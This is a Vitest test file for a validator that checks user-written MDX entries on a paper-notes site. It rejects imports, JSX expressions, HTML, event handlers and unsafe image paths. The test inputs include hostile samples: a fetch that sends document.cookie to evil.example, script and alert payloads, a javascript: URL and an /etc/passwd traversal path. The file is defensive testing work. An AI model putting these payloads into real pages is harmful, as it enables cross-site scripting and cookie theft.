import { describe, expect, it } from 'vitest';
import { ENTRY_COMPONENT_NAMES, ENTRY_COMPONENTS, findUnsafeMdx, inspectMdx } from '../../../src/lib/validate/mdx-safety';

const NO_HTML = 'use Markdown, or one of the components <Figure>, <Callout>, <PaperRef>, <Results> (write \\< for a literal <)';

describe('inspectMdx: what an entry may hold', () => {
  it.each([
    ['an empty body', ''],
    [
      'paragraphs, emphasis, lists and links',
      'A **strong** note with `code`.\n\n- one\n- two\n\n[project](https://example.org)\n',
    ],
    ['a GFM table and strikethrough, as the site renders them', '| model | score |\n| --- | --- |\n| a | ~~1~~ 2 |\n'],
    ['an escaped brace and a less-than sign followed by a space', 'Sets \\{a, b\\}; 3 < 4.\n'],
    ['an escaped tag-like text', 'The \\<image> token.\n'],
    ['code blocks holding JSX and imports', '```tsx\nimport x from "y";\n<Foo bar={1} />\n```\n'],
    ['inline code holding an expression', 'Write `{x}` to interpolate.\n'],
    ['an image under public/', '![a](/figures/a.png)\n'],
    ['a reference inside a callout', '<Callout kind="note">\n\nSee <PaperRef id="mllm/2409.12191" />.\n\n</Callout>\n'],
  ])('accepts %s', (_, body) => {
    expect(findUnsafeMdx(body)).toEqual([]);
  });

  it.each(ENTRY_COMPONENT_NAMES)('accepts the documented example of <%s>, and reports the component used', (name) => {
    const inspection = inspectMdx(ENTRY_COMPONENTS[name].example);
    expect(inspection.issues).toEqual([]);
    expect(inspection.components).toEqual([name]);
  });

  it('lists the components used, and the refs and figures to check against the list and public/', () => {
    const body =
      'Intro.\n\n<Callout kind="caveat" title="Careful">\n\nVs <PaperRef id="2409.12191" />.\n\n</Callout>\n\n<Figure src="/f/a.svg" alt="A" />\n';
    expect(inspectMdx(body)).toEqual({
      issues: [],
      components: ['Figure', 'Callout', 'PaperRef'],
      paperRefs: [{ line: 5, id: '2409.12191' }],
      figures: [{ line: 9, src: '/f/a.svg' }],
    });
    expect(inspectMdx('Just **Markdown**.\n').components).toEqual([]);
  });
});

describe('inspectMdx: what it refuses, at the line', () => {
  it.each([
    // Code
    [
      'an import',
      'Intro.\n\nimport Chart from "./chart.js"\n',
      3,
      'import/export statements are not allowed in an entry (components need no import)',
    ],
    [
      'an export',
      'export const score = 1\n',
      1,
      'import/export statements are not allowed in an entry (components need no import)',
    ],
    [
      'a block expression',
      '\n{fetch("https://evil.example")}\n',
      2,
      'expression {fetch("https://evil.example")} is not allowed in an entry (write \\{ for a literal brace)',
    ],
    [
      'an inline expression',
      'Score: {1 + 1}.\n',
      1,
      'expression {1 + 1} is not allowed in an entry (write \\{ for a literal brace)',
    ],
    [
      'a long multi-line expression, shown on one line and shortened',
      'Intro.\n\n{\n  await fetch("https://evil.example/collect?data=" + document.cookie)\n}\n',
      3,
      'expression {await fetch("https://evil.example/colle…} is not allowed in an entry (write \\{ for a literal brace)',
    ],
    // Elements
    ['a <script> element', '<script>alert(1)</script>\n', 1, `HTML element <script> is not allowed in an entry: ${NO_HTML}`],
    ['an inline HTML element', 'Intro.\n\nA <b>bold</b> claim.\n', 3, `HTML element <b> is not allowed in an entry: ${NO_HTML}`],
    ['a fragment', '<>hidden</>\n', 1, 'fragments <>…</> are not allowed in an entry (write \\< for a literal <)'],
    [
      'an unknown component',
      'Intro.\n\n<Chart data="x" />\n',
      3,
      'unknown component <Chart>: entries may use only <Figure>, <Callout>, <PaperRef>, <Results> (write \\< for a literal <)',
    ],
    [
      'a member component',
      '<Callout.Inner kind="note" />\n',
      1,
      'unknown component <Callout.Inner>: entries may use only <Figure>, <Callout>, <PaperRef>, <Results> (write \\< for a literal <)',
    ],
    // Attributes
    [
      'spread props',
      '<Callout {...{ kind: "note" }}>x</Callout>\n',
      1,
      '<Callout> with spread attributes {...{ kind: "note" }} is not allowed: write each attribute as name="text"',
    ],
    [
      'an expression attribute',
      '<PaperRef id={process.env.HOME} />\n',
      1,
      '<PaperRef id={process.env.HOME}>: attribute values must be text in quotes (id="…"), not {expressions}',
    ],
    ['an attribute without a value', '<Callout kind>x</Callout>\n', 1, '<Callout kind> needs a value in quotes: kind="…"'],
    [
      'an event-handler attribute, even as text',
      '<Figure src="/a.png" alt="a" onError="alert(1)" />\n',
      1,
      '<Figure onError>: event-handler attributes are not allowed in an entry',
    ],
    [
      'an attribute the component does not take',
      '<Callout kind="note" style="color:red">x</Callout>\n',
      1,
      '<Callout> has no attribute "style" (it takes kind, title)',
    ],
    [
      'a missing required attribute',
      '<Figure src="/a.png" />\n',
      1,
      '<Figure> needs alt="…" (what the image shows, for readers who cannot see it)',
    ],
    [
      'a value outside the choices',
      '<Callout kind="danger">x</Callout>\n',
      1,
      '<Callout kind="danger">: kind must be one of takeaway, caveat, note',
    ],
    ['a repeated attribute', '<PaperRef id="a" id="b" />\n', 1, '<PaperRef> has the attribute "id" twice'],
    // Content and values
    [
      'content in a self-closing component',
      '<PaperRef id="a">text</PaperRef>\n',
      1,
      '<PaperRef> takes no content: write it as <PaperRef … />',
    ],
    [
      'results without a table',
      '<Results caption="x">\n\nJust text.\n\n</Results>\n',
      1,
      '<Results> must hold a Markdown table (leave a blank line after <Results …> and before </Results>)',
    ],
    [
      'a remote figure',
      '<Figure src="https://evil.example/a.png" alt="a" />\n',
      1,
      '<Figure src="https://evil.example/a.png">: src must be an image under public/, written from the site root, such as "/figures/2409.12191/overview.png" (remote images are blocked)',
    ],
    [
      'a figure outside public/',
      '<Figure src="/../../etc/passwd.png" alt="a" />\n',
      1,
      '<Figure src="/../../etc/passwd.png">: src must be an image under public/, written from the site root, such as "/figures/2409.12191/overview.png" (remote images are blocked)',
    ],
    [
      'a figure that is not an image',
      '<Figure src="/theme.js" alt="a" />\n',
      1,
      expect.stringMatching(/^<Figure src="\/theme\.js">: src must be an image/),
    ],
    [
      'a reference that is not an id',
      '<PaperRef id="../x y" />\n',
      1,
      '<PaperRef id="../x y">: id must be an entry id such as "2409.12191" or "mllm/2409.12191"',
    ],
    [
      'a relative Markdown image (Astro would import the file)',
      'Intro.\n\n![x](../../secret.png)\n',
      3,
      'image "../../secret.png" is not a file under public/ (remote images are blocked): use <Figure src="/…" alt="…" />',
    ],
    [
      'a remote Markdown image (the CSP would block it)',
      '![x](https://evil.example/track.png)\n',
      1,
      'image "https://evil.example/track.png" is not a file under public/ (remote images are blocked): use <Figure src="/…" alt="…" />',
    ],
    [
      'an image with a code-running URL',
      '![x](javascript:alert(1))\n',
      1,
      'image "javascript:alert(1)" is not a file under public/ (remote images are blocked): use <Figure src="/…" alt="…" />',
    ],
    [
      'a relative image through a reference definition',
      '![x][fig]\n\n[fig]: ./secret.png\n',
      1,
      'image "./secret.png" is not a file under public/ (remote images are blocked): use <Figure src="/…" alt="…" />',
    ],
  ])('refuses %s', (_, body, line, message) => {
    expect(findUnsafeMdx(body)).toEqual([{ line, message }]);
  });

  it('reports every refused node, and each element once (not what is inside it)', () => {
    const body =
      'import a from "a"\n\nText {x}.\n\n<Box>\n  {y}\n</Box>\n\n<Callout kind="note">\n\n<div>in</div>\n\n</Callout>\n';
    expect(findUnsafeMdx(body).map((issue) => issue.line)).toEqual([1, 3, 5, 11]);
  });

  it.each([
    ['an HTML comment', 'Intro.\n\nA <!-- hidden --> comment.\n', 3, /^the MDX does not parse: Unexpected character `!`/],
    ['an unclosed brace', 'Fine.\n\nSets {a, b\n', 3, /^the MDX does not parse: Unexpected end of file in expression/],
    [
      'an autolink',
      'See <https://example.org>.\n',
      1,
      /^the MDX does not parse: .*to create a link in MDX, use `\[text\]\(url\)`/,
    ],
    ['an unclosed element', 'Intro.\n\n<div>\n\ntext\n', 3, /^the MDX does not parse: Expected a closing tag for `<div>`$/],
  ])('rejects a body that does not parse (%s), at the line of the error', (_, body, line, message) => {
    const issues = findUnsafeMdx(body);
    expect(issues).toHaveLength(1);
    expect(issues[0]).toMatchObject({ line, message: expect.stringMatching(message) });
  });
});
